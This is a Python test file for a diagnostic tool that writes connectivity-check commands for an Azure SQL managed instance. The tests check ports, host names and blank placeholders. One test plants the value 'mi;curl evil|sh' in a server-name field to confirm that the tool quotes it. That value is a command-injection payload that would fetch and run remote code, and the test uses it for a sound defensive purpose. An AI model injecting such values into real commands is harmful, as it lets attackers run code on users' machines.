"""What fetches missing evidence is ready to be copied: the server's name and port stand in it."""

from __future__ import annotations

import pytest

from mi_workbook.cases import Case, all_cases, case
from mi_workbook.diagnosis.diagnose import diagnose
from mi_workbook.diagnosis.filling import BLANK
from mi_workbook.evidence.snapshot import from_document

PUBLIC = "mi-orders.public.a1b2c3d4e5f6.database.windows.net"


@pytest.mark.parametrize("one", all_cases(), ids=lambda c: c.id)
def test_no_answer_leaves_a_name_to_be_filled_in_that_the_evidence_holds(one: Case) -> None:
    """Gaps and notes of every built-in case."""
    found = diagnose(one.snapshot(), one.source, one.target, one.endpoint)
    assert not any(BLANK in text for text in (*(gap.how for gap in found.gaps), *found.confidence_notes))


def test_public_endpoint_is_asked_for_by_its_own_name_and_port() -> None:
    """It listens on 3342; a test of 1433 there would prove nothing."""
    one = case("developer-box-sound")
    named = diagnose(one.snapshot(), one.source, one.target)
    assert any("-Port 1433" in gap.how and one.target in gap.how for gap in named.gaps)
    outside = case("app-service-public-endpoint")
    found = diagnose(outside.snapshot(), outside.source, PUBLIC, "public")
    told = " ".join((*(gap.how for gap in found.gaps), *found.confidence_notes))
    assert PUBLIC in told and f"{PUBLIC}:3342" in told and "1433" not in told


def test_name_that_nobody_collected_stays_to_be_filled_in() -> None:
    """An invented one would be worse."""
    one = case("developer-box-sound")
    document = one.snapshot().to_dict()
    for resource in document["resources"]:
        resource.get("properties", {}).pop("fullyQualifiedDomainName", None)
    found = diagnose(from_document(document), one.source, "mi-orders", "vnet-local")
    assert any(BLANK in gap.how for gap in found.gaps)


def test_hostile_name_is_quoted() -> None:
    """The name comes from a file that somebody sent."""
    one = case("developer-box-sound")
    document = one.snapshot().to_dict()
    for resource in document["resources"]:
        if "fullyQualifiedDomainName" in resource.get("properties", {}):
            resource["properties"]["fullyQualifiedDomainName"] = "mi;curl evil|sh"
    found = diagnose(from_document(document), one.source, "mi-orders", "vnet-local")
    hows = [gap.how for gap in found.gaps if "evil" in gap.how]
    assert hows and all("'mi;curl evil|sh'" in how for how in hows)
